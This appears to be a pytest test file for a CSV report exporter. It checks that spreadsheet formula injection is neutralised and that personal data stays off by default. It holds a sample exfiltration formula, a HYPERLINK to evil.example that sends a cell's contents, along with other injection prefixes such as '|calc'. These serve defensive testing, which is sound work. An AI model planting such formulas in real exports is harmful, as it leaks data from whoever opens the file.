"""Exports that a spreadsheet may open."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from models.reports.export import FORMULA, cells, header, inert, line
from tests.history import a_case

AT = datetime(2026, 3, 1, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/"&A1;"Kettle")'


@pytest.mark.parametrize(
    "cell", [EVIL, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "  =1", '"=1', "＝1", "|calc", "%x", "\n=1", "\0=1"]
)
def test_formulas_are_words(cell: str) -> None:
    """An apostrophe stands before whatever a spreadsheet would run."""
    assert inert(cell).startswith("'")


@given(st.text())
def test_no_cell_begins_a_formula(cell: str) -> None:
    """Whatever customers write; and the text can be read back whole."""
    written = inert(cell)
    assert not written.startswith(FORMULA)
    assert not written.lstrip(" \u00a0").startswith(FORMULA)
    assert written.removeprefix("'") == cell.replace("\0", "") or written == cell.replace("\0", "")


@given(st.text(), st.text())
def test_a_line_is_read_back_as_it_was(product: str, text: str) -> None:
    """Quotes, commas and line ends stay in their cells."""
    (row,) = list(csv.reader(io.StringIO(line((1, inert(product), inert(text))), newline="")))
    assert row == ["1", inert(inert(product)), inert(inert(text))]


def test_personal_data_is_off_by_default() -> None:
    """No name, address, order, link nor words, unless they were asked for."""
    case = a_case(AT, product=EVIL, email="ann@example.com", order_id="O-77", url="https://shop.example/r/1")
    safe = line(cells(case, with_words=False, with_personal=False))
    for secret in ("ann@example.com", "O-77", "shop.example", "Person 0", "It came late"):
        assert secret not in safe
    assert f"'{EVIL}".replace('"', '""') in safe
    full = line(cells(case, with_words=True, with_personal=True))
    for named in ("ann@example.com", "O-77", "Person 0", "It came late"):
        assert named in full


@pytest.mark.parametrize(("with_words", "with_personal"), [(False, False), (True, False), (False, True), (True, True)])
def test_header_fits_the_cells(with_words: bool, with_personal: bool) -> None:
    """As many names as cells."""
    found = cells(a_case(AT), with_words=with_words, with_personal=with_personal)
    assert len(header(with_words=with_words, with_personal=with_personal)) == len(found)
